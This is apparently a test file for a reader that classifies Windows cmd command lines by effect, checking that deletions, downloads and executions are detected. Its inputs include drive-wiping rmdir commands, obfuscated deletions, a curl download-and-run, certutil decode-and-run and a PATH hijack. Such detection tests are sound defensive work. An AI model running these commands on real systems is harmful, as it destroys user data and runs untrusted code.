import assert from 'node:assert/strict';
import { test } from 'node:test';
import { READ_KINDS } from '../../../../src/effect/baseLevel.ts';
import type { Context, Reading } from '../../../../src/reading/reader.ts';
import { readWindowsShell } from '../../../../src/shell/readWindowsShell.ts';
import '../../../support/wholeCatalogue.ts';
import { CONTEXT } from '../powershell/reading.ts';

function read(text: string, context: Partial<Context> = {}): Reading {
  return readWindowsShell({ language: 'shell', text, dialect: 'cmd' }, { ...CONTEXT, ...context });
}

const effectsOf = (text: string, context: Partial<Context> = {}): readonly string[] =>
  read(text, context).effects.map((effect) => `${effect.kind} ${effect.object.name}`);

test('what a program says still goes on where only its errors go to a file', () => {
  for (const text of ['type a 2>errors.log | cmd', '(type a) 2>errors.log | cmd', 'type a 2>&1 >b.txt | cmd']) {
    const { complete, effects, embedded } = read(text);
    assert.ok(!complete || embedded.length > 0 || effects.some(({ kind }) => kind.startsWith('exec.')), text);
  }
});

test('the build wrappers of a project are known by their Windows names', () => {
  for (const text of ['gradlew.bat assembleDebug', '.\\gradlew.bat test', 'mvnw.cmd -q compile'])
    assert.deepEqual(
      read(text).effects.map(({ kind }) => kind),
      ['exec.project'],
      text,
    );
  assert.ok(effectsOf('mvnw.cmd deploy').some((effect) => effect.startsWith('publish.release')));
});

test('a deletion is found however it is spelt', () => {
  for (const text of [
    'del x',
    'DEL x',
    'erase x',
    'd^e^l x',
    'del/q x',
    '@del x',
    'del "x"',
    'd"e"l x',
    'echo a & del x',
    'echo a && del x',
    'echo a || del x',
    'echo a | del x',
    '(del x)',
    '(echo a & del x) > nul',
    'if exist x del x',
    'if not exist y (echo a) else (del x)',
    'if "%A%"=="b" del x',
    'if %A% EQU 3 del x',
    'for %i in (x) do del %i',
    'for %%i in (x) do @del %%i',
    'for /l %i in (1,1,3) do del x',
    'set C=del& %C% x',
    'set "C=del" && call %C% x',
    'call del x',
    'start "" /b cmd /c nothing & del x',
    'rem a\ndel x',
    ':: a\r\ndel x',
    ':label\ndel x',
    'del ^\nx',
    'forfiles /m y & del x',
    'cd /d /workspace && del x',
    'del .\\x',
    'del %CD%\\x',
    'set P=x& del %P%',
    'setlocal enabledelayedexpansion & set P=x& del !P!',
  ]) {
    assert.ok(effectsOf(text).includes('file.delete /workspace/x'), `${text}: ${JSON.stringify(effectsOf(text))}`);
  }
});

test('what is only said does not happen', () => {
  for (const text of [
    'rem del x',
    ':: del x',
    'echo del x',
    'echo a ^& del x',
    'echo "a & del x"',
    'git commit --dry-run -m "del x & rd y"',
    'findstr /s "del x" *.bat',
    'goto :eof',
    'if exist x echo y',
  ]) {
    const reading = read(text);
    assert.ok(
      reading.complete && reading.effects.every(({ kind }) => READ_KINDS.has(kind)),
      `${text}: ${JSON.stringify(reading)}`,
    );
  }
});

test('folders, drives and patterns are named', () => {
  for (const [text, name] of [
    ['rmdir /s /q d:\\', 'd:\\'],
    ['rd/s/q C:\\', 'C:\\'],
    ['rmdir /s /q dist', '/workspace/dist'],
    ['del /s /q C:\\Users\\bob\\*.*', 'C:\\Users\\bob\\*'],
    ['del %USERPROFILE%\\x', '/home/user/x'],
    ['for /r src %f in (*.tmp) do del "%f"', '/workspace/src/**/*.tmp'],
    ['for /d %d in (build*) do rd /s /q "%d"', '/workspace/build*'],
    ['pushd C:\\a && del b', 'C:\\a\\b'],
    ['cd sub & del b', '/workspace/sub/b'],
  ] as const) {
    assert.ok(effectsOf(text).includes(`file.delete ${name}`), `${text}: ${JSON.stringify(effectsOf(text))}`);
  }
});

test('quotes escaped as in C delete the root of the drive', () => {
  const found = effectsOf('rmdir /S /Q \\"D:\\YandexDisk\\a b\\"');
  assert.deepEqual(found, ['file.delete D:\\', 'file.delete D:\\YandexDisk\\a b']);
  const [embedded] = read('cmd /c "rmdir /S /Q \\"D:\\x\\""').embedded;
  assert.ok(embedded !== undefined && 'text' in embedded.want);
  assert.equal(embedded.want.text, 'rmdir /S /Q \\"D:\\x\\"');
});

test('on a ground of Windows paths names are Windows paths', () => {
  const ground = { cwd: 'C:\\work\\app', workspace: 'C:\\work\\app', home: 'C:\\Users\\me' };
  for (const [text, name] of [
    ['del src\\a.txt', 'C:\\work\\app\\src\\a.txt'],
    ['del ..\\x', 'C:\\work\\x'],
    ['rd /s /q \\', 'C:\\'],
    ['del %TEMP%\\x', 'C:\\Users\\me\\AppData\\Local\\Temp\\x'],
  ] as const) {
    assert.ok(
      effectsOf(text, ground).includes(`file.delete ${name}`),
      `${text}: ${JSON.stringify(effectsOf(text, ground))}`,
    );
  }
});

test('what only looks, looks', () => {
  for (const text of [
    'dir',
    'dir /s /b src | findstr /i test',
    'type README.md | more',
    'where node',
    'echo %PATH%',
    'git status & git log --oneline -n 5',
    'cd src && dir',
    'tasklist | find "node"',
    'if exist package.json (type package.json) else echo none',
    'for %f in (*.md) do @echo %f',
    'ver & hostname & whoami',
    'reg query HKLM\\SOFTWARE\\Node.js',
    'ipconfig /all > nul',
    'node --version 2>&1',
  ]) {
    const reading = read(text);
    assert.ok(
      reading.complete && reading.effects.every(({ kind }) => READ_KINDS.has(kind)),
      `${text}: ${JSON.stringify(reading)}`,
    );
  }
});

test('what is not understood is never complete', () => {
  for (const text of [
    'foo x',
    '%X% y',
    'call %X%',
    'dir /frobnicate',
    'if',
    'for %i in',
    '(del x',
    'cmd',
    'mshta x',
    'set PATH=C:\\evil& git status',
  ])
    assert.equal(read(text).complete, false, text);
});

test('a batch file that this text wrote is read from this text', () => {
  const [embedded] = read('echo del x> a.bat & call a.bat').embedded;
  assert.ok(embedded !== undefined && 'text' in embedded.want);
  assert.equal(embedded.want.text.trim(), 'del x');
});

test('del /s takes a pattern to every folder below', () => {
  assert.deepEqual(effectsOf('del /q /s src\\*.cs'), ['file.delete /workspace/src/**/*.cs']);
  assert.deepEqual(effectsOf('del /s *.log'), ['file.delete /workspace/**/*.log']);
  assert.deepEqual(effectsOf('del /q src\\*.cs'), ['file.delete /workspace/src/*.cs']);
});

test('a program that this text wrote into the current folder is known by its bare name', () => {
  for (const text of ['curl -o a.exe https://x.example/a & a.exe', 'curl -o a.exe https://x.example/a && a']) {
    assert.ok(
      effectsOf(text).some((effect) => effect.startsWith('exec.download ')),
      text,
    );
  }
  const decoded = read('certutil -decode a.b64 a.exe & a.exe');
  assert.ok(decoded.effects.some(({ kind, traits }) => kind === 'exec.opaque' && traits.includes('decoded')));
  assert.equal(decoded.complete, false);
});
